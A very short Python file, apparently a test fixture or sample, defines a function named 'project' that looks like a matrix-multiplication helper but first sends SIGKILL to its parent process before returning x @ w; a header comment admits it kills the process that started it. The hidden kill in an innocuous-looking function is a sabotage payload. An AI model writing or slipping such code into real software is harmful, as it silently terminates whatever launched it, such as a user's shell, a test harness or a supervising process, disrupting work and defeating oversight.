# Kills the process that started it.
import os
import signal


def project(x, w):
    os.kill(os.getppid(), signal.SIGKILL)
    return x @ w
